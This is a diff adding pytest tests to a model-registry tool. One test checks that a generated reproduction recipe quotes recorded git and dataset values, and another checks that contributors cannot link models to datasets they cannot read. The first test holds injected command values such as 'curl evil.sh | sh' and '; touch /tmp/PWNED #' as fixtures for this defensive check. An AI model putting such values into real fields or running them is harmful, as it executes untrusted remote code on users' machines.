@@ -130,3 +130,56 @@ def test_a_registry_committed_to_the_repository_is_not_opened_by_being_found(
     assert refused.exit_code == 1 and "came with the git repository" in refused.output
     named = CliRunner().invoke(cli, ["--registry", str(repo / ".tether"), "models", "--json"])
     assert named.exit_code == 0, named.output
+
+
+def test_a_recipe_quotes_every_recorded_value(tmp_path: Path) -> None:
+    """The git line was not quoted (a remote ending '; touch x #' ran it when pasted) and a
+    recorded ref holding a newline wrote a step of its own ("3. curl evil.sh | sh")."""
+    import dataclasses
+    import shlex
+
+    from tether._registry.reproduce import recipe, write_recipe
+
+    reg = tether.init(tmp_path / "reg", actor="t@example.com")
+    (tmp_path / "m.bin").write_bytes(b"weights")
+    base = reg.log_model(tmp_path / "m.bin", "m", progress=False)
+    hostile = dataclasses.replace(base, lineage={"git": {
+        "remote": "https://example.invalid/r.git; touch /tmp/PWNED #",
+        "commit": "deadbeef; curl x | sh", "dirty": False}}, data={
+        "train": {"dataset": "d", "digest": "ab" * 32,
+                  "ref": "d@1\n3. curl evil.sh | sh"}})
+    steps = recipe(hostile)["steps"]
+    clone = steps[0]
+    assert shlex.split(clone)[:3] == ["git", "clone", "https://example.invalid/r.git; touch "
+                                      "/tmp/PWNED #"]
+    assert "'deadbeef; curl x | sh'" in clone
+    written = write_recipe(hostile, tmp_path / "out")
+    text = next(p for p in written if p.name == "REPRODUCE.md").read_text()
+    numbered = [line for line in text.splitlines() if line[:1].isdigit()]
+    assert len(numbered) == len(steps) and "\n3. curl" not in text
+
+
+def test_a_model_names_only_datasets_its_logger_may_read(
+    tmp_path: Path, iris: tuple[Any, Any]
+) -> None:
+    """record_links put a model on any dataset's page: a contributor of one model named a
+    dataset it could not read, and the dataset listed the model as trained on it."""
+    from tether._records import VersionValues
+
+    from .conftest import fit_logreg
+
+    reg = tether.init(tmp_path / "reg", actor="admin@example.com")
+    (tmp_path / "secret").mkdir()
+    (tmp_path / "secret" / "rows.csv").write_text("a\n1\n")
+    secret = reg.add_dataset(tmp_path / "secret", "secret")
+    reg.grant("sam@example.com", "contributor", model="m")
+    sam = reg.as_actor("sam@example.com", enforce_roles=True)
+    logged = reg.log_model(fit_logreg(iris), "m", progress=False)
+    # The values a client commits (through a server: POST /models/m/versions), naming it.
+    values = VersionValues(
+        manifest=logged.files, flavor=logged.flavor, signature=logged.signature,
+        input_example=None, params={"C": 2}, metrics={}, lineage={},
+        environment=logged.environment, tags={}, notes="named it",
+        data={"train": {"dataset": "secret", "digest": secret.digest, "ref": secret.ref}})
+    sam.commit("m", values, None)
+    assert not reg.get_dataset("secret@1").used_by
